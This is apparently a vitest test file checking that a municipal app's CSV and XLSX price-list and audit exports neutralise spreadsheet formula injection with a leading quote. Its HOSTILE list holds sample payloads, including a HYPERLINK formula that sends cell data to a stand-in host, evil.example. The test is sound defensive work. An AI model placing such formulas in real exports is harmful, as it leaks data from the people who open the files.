import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { createUser, findUserById, saveMunicipalPriceList, testDialects } from '../db/index.js'
import { STARTER_PRICE_LIST } from '../domain/index.js'
import { parseCsv, readFirstSheet } from '../files/index.js'
import { createTestApp, type TestApp } from './testing/test-app.js'

/** Text a spreadsheet could run as a formula, one of each kind the guard knows. */
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1,"klik")',
  '+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tcmd',
  '\rcmd',
] as const

for (const dialect of testDialects()) {
  describe(`CSV and XLSX exports guard formulas, over HTTP on ${dialect.name}`, () => {
    let t: TestApp
    beforeAll(async () => {
      t = await createTestApp(dialect)
    })
    afterAll(async () => {
      await t.close()
    })

    it('the price-list export writes hostile text with a leading quote, in CSV and XLSX', async () => {
      const v = t.demo.voorbeeldstad
      // Stored directly: an import trims cells, so a tab or CR could not arrive that way.
      const hostile = (text: string, k: number) => ({
        ...(STARTER_PRICE_LIST.items[k] as (typeof STARTER_PRICE_LIST.items)[number]),
        name: { nl: text, en: `veilig ${k}` },
        notes: text,
      })
      await saveMunicipalPriceList(t.handle.db, {
        municipalityId: v.municipalityId,
        list: { ...STARTER_PRICE_LIST, version: 'guard-1', items: HOSTILE.map(hostile) },
        note: null,
        userId: null,
      })
      const headers = await t.headersFor(v.users['pilot-manager'])
      const csv = await t.app.inject({ url: '/api/v1/price-list/export?format=csv', headers })
      expect(csv.statusCode).toBe(200)
      expect(csv.body).not.toMatch(/(^|[,\n])=HYPERLINK/)
      const xlsx = await t.app.inject({ url: '/api/v1/price-list/export?format=xlsx', headers })
      expect(xlsx.statusCode).toBe(200)
      // XML stores a carriage return as a line feed; the quote in front is what counts.
      const asCsv = (cell: string | undefined) => cell?.replace(/^'\n/, "'\r")
      for (const [rows, read] of [
        [parseCsv(csv.body), (cell: string | undefined) => cell],
        [await readFirstSheet(xlsx.rawPayload), asCsv],
      ] as const) {
        const header = rows[0] as string[]
        const column = (name: string) => rows.slice(1).map((r) => read(r[header.indexOf(name)]))
        const guarded = HOSTILE.map((h) => `'${h}`)
        expect(column('name_nl')).toEqual(guarded)
        expect(column('notes')).toEqual(guarded)
        expect(column('name_en')).toEqual(HOSTILE.map((_, k) => `veilig ${k}`))
      }
    })

    it('the audit export writes hostile names with a leading quote, and the id as a number', async () => {
      const v = t.demo.voorbeeldstad
      const professional = await findUserById(t.handle.db, v.users.professional)
      const personId = v.participantIds.Noord[1] as string
      for (const [k, name] of HOSTILE.entries()) {
        const user = await createUser(t.handle.db, {
          email: `guard${k}@voorbeeldstad.example`,
          name,
          role: 'professional',
          organisationId: professional?.organisationId ?? null,
          team: 'Noord',
        })
        const seen = await t.app.inject({
          url: `/api/v1/participants/${personId}`,
          headers: await t.headersFor(user.id),
        })
        expect(seen.statusCode).toBe(200)
      }
      const admin = await t.headersFor(v.users.administrator)
      const csv = await t.app.inject({
        url: `/api/v1/audit/export?personId=${personId}`,
        headers: admin,
      })
      expect(csv.statusCode).toBe(200)
      const rows = parseCsv(csv.body)
      const header = rows[0] as string[]
      const names = rows.slice(1).map((r) => r[header.indexOf('actorName')])
      expect([...names].sort()).toEqual(HOSTILE.map((h) => `'${h}`).sort())
      for (const r of rows.slice(1)) expect(r[header.indexOf('id')]).toMatch(/^\d+$/)
    })
  })
}
